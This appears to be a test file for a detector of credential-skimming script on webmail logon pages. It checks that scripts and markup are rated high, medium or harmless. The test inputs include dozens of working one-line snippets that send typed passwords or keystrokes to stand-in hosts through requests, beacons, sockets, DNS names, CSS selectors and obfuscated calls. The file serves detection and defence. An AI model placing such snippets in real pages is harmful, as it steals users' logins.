import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readClientFile, readClientPage } from '../../../src/formats/client-page/read-client-page.js';
import { SEVERITIES } from '../../../src/model/severity.js';
import { judgePage } from '../../../src/signatures/logon-page/judge-page.js';

const OWN = 'function gbid(s) { return document.getElementById(s); }\n';

/** The gravest that is said of a script of the logon page; null where nothing is. */
function ofScript(code: string) {
  return gravest(judgePage(readClientFile(OWN + code, 'script')));
}

function ofMarkup(markup: string) {
  return gravest(judgePage(readClientPage(markup)));
}

function gravest({ capabilities }: ReturnType<typeof judgePage>) {
  const order = capabilities.map(({ severity }) => SEVERITIES.indexOf(severity));
  return order.length === 0 ? null : (SEVERITIES[Math.max(...order)] ?? null);
}

describe('what is typed goes out', () => {
  it.each([
    ['a request', 'var x = new XMLHttpRequest(); x.open("POST", "/n"); x.send(gbid("password").value);'],
    [
      'a request by another name',
      'var X = window["XMLHttp" + "Request"], q = new X; q.open("GET", "/n?" + document.forms[0].elements[4].value);',
    ],
    [
      'fetch',
      'document.forms[0].onsubmit = async () => { await fetch("/n", { method: "POST", body: JSON.stringify({ p: document.querySelector("[type=password]").value }) }); };',
    ],
    [
      'fetch by another name',
      'const f = self.fetch.bind(self); document.addEventListener("submit", e => f("/n", { body: new FormData(e.target) }));',
    ],
    ['a template', `const p = gbid("password"); fetch(\`/n?\${p.value}\`);`],
    [
      'key by key',
      'var b = ""; document.addEventListener("keydown", function (e) { b += e.key; navigator.sendBeacon("/n", b); });',
    ],
    ['a picture', 'new Image().src = "//n.example/?" + escape(gbid("password").value);'],
    ['an attribute', 'var i = gbid("logo"); i.setAttribute("src", "/n?" + gbid("password").value);'],
    ['a socket', 'var w = new WebSocket("wss://n.example"); document.onkeypress = function (e) { w.send(e.which); };'],
    ['an event source', 'gbid("password").onblur = function () { new EventSource("/n?" + this.value); };'],
    [
      'a name of a host',
      'var l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//" + btoa(gbid("password").value) + ".n.example";',
    ],
    ['a cookie', 'document["cookie"] = "l=" + btoa(document.logonForm.password.value);'],
    ['storage', 'localStorage.setItem("t", gbid("password").value);'],
    ['the name of the window', 'window.name = gbid("password").value;'],
    ['a message', 'window.parent.postMessage({ p: gbid("password").value }, "*");'],
    ['history', 'history.pushState(null, "", "/owa/?" + gbid("password").value);'],
    ['another page', 'window.location.href = "/n?" + gbid("password").value;'],
    ['a style', 'document.body.style.backgroundImage = "url(/n?" + gbid("password").value + ")";'],
    ['jQuery', '$("#logonForm").submit(function () { $.post("/n", $(this).serialize()); });'],
    ['jQuery, field by field', 'var d = ""; $("input").each(function () { d += $(this).val(); }); $.get("/n?" + d);'],
    [
      'functions',
      'function v(k) { return gbid(k).value; } function s() { ship(v("password")); } function ship(a) { new Image().src = "/n?" + a; }',
    ],
    ['an object', 'var o = {}; o.p = gbid("password").value; window.top.location = "/n?" + JSON.stringify(o);'],
    ['markup', 'gbid("lgnDiv").innerHTML += "<img src=\'/n?" + gbid("password").value + "\'>";'],
    [
      'a method that is put together',
      'var n = "tsop".split("").reverse().join(""); $[n]("/n", { d: gbid("password").value });',
    ],
    [
      'character codes',
      'var s = String.fromCharCode(102, 101, 116, 99, 104); window[s]("/n", { body: gbid("password").value });',
    ],
    ['a header', 'var x = new XMLHttpRequest(); x.setRequestHeader("X-A", gbid("password").value);'],
    [
      'a connection between browsers',
      'new RTCPeerConnection({ iceServers: [{ urls: "turn:n.example", username: gbid("password").value }] });',
    ],
    ['styles for values', 'document.styleSheets[0].insertRule("input[value^=a]{background:url(/n)}", 0);'],
  ])('by %s', (_, code) => expect(ofScript(code)).toBe('high'));
});

describe('capabilities that the logon pages of the products do not have', () => {
  it.each([
    ['a worker of the site', 'navigator.serviceWorker.register("/n.js");'],
    ['a module', 'import("/n.js");'],
    ['code made of text', 'eval(atob("YQ=="));'],
    ['a constructor of functions', '[]["filter"]["constructor"]("a")();'],
    ['a delayed text', 'setTimeout("a()", 500);'],
    ['a name that is made up', 'window[location.hash.slice(1)](a);'],
    ['a method of the browser replaced', 'HTMLFormElement.prototype.submit = function () { hook(this); };'],
    [
      'a property of the browser replaced',
      'Object.defineProperty(HTMLInputElement.prototype, "value", { get: hook });',
    ],
    ['a variable of another window', 'window.opener.p = gbid("password").value;'],
    [
      'a style that is written',
      'var t = document.createElement("style"); t.textContent = "p{background:url(/n?" + gbid("password").value + ")}";',
    ],
    ['another name for the field', 'gbid("password").name = "username";'],
    ['a form that is made', 'var f = document.createElement("form"); f.appendChild(gbid("password").cloneNode(true));'],
    ['a copy in another field', 'document.logonForm.destination.value += gbid("password").value;'],
    ['a form that is sent by its address', 'document.logonForm.method = "GET";'],
    ['a form that another page gets', 'document.logonForm.action = "/owa/auth/signin.aspx";'],
    ['names in escapes', 'var a = ["\\x76\\x61\\x6c\\x75\\x65"];'],
    ['names of a packer', 'var _0x3f2a = [1];'],
    [
      'a field that is not known',
      'function s(k) { var x = new XMLHttpRequest; x.open("POST", "/n"); x.send(document.getElementById(k).value); }',
    ],
  ])('%s', (_, code) => expect(ofScript(code)).toBe('medium'));

  it.each([
    ['script of the same server', '<script src="/owa/auth/jquery.js"></script>', 'medium'],
    ['script in an address', '<script src="data:text/javascript,a()"></script>', 'medium'],
    ['frame', '<iframe src="https://n.example/"></iframe>', 'medium'],
    ['button that sends elsewhere', '<button formaction="https://n.example/">', 'high'],
    ['base of addresses', '<base href="//n.example/">', 'high'],
    ['form that is sent by its address', '<form action="/owa/auth.owa" method="get">', 'medium'],
    ['handler', '<input type="password" id="k" onkeyup="fetch(\'/n?\' + event.key)">', 'high'],
    [
      'handler of a picture',
      '<svg onload="var i = new Image(); i.src = \'/n?\' + document.forms[0].password.value">',
      'high',
    ],
    [
      'field by its own name',
      '<input type="password" id="k"><script>new Image().src = "/n?" + gbid("k").value</script>',
      'high',
    ],
    [
      'script that writes a script',
      '<script>document.write("<script src=//n.example/a.js><\\/script>")</script>',
      'medium',
    ],
    ['styles for values', '<style>input[value^="a"] { background: url(/n) }</style>', 'high'],
    ['VBScript', '<script language="VBScript">x = 1</script>', 'medium'],
  ])('in markup: %s', (_, markup, severity) => expect(ofMarkup(markup)).toBe(severity));
});

describe('what the products do themselves', () => {
  it.each([
    [
      'look at the password',
      'if (gbid("password").value.length == 0 || gbid("password").value != gbid("passwordText").value) gbid("password").focus();',
    ],
    ['show it', 'gbid("passwordText").value = gbid("password").value;'],
    ['keep the name', 'document.cookie = "lgn=" + gbid("username").value;'],
    ['submit their form', 'document.logonForm.action = "/owa/auth.owa"; document.logonForm.submit();'],
    ['go where they were told to', 'window.location = a_sLgn + a_sUrl;'],
    ['listen to the enter key', 'function k(e) { if (e.keyCode == 13) clkLgn(); }'],
    [
      'change what is shown',
      'gbid("e").innerHTML = message; gbid("e").style.display = "none"; gbid("e").className += " x";',
    ],
  ])('%s', (_, code) => expect(ofScript(code)).toBeNull());
});

it('accepts any script, and says the same each time', () => {
  const piece = fc.constantFrom(
    'gbid("password")',
    '.value',
    '=',
    '(',
    ')',
    '{',
    '}',
    'function ',
    'a',
    ';',
    'fetch',
    'new ',
    '`$' + '{',
    '=>',
    '"',
    'var ',
    '+',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string()), { maxLength: 40 }), (pieces) => {
      const page = readClientFile(pieces.join(''), 'script');
      expect(judgePage(page)).toEqual(judgePage(page));
    }),
  );
});
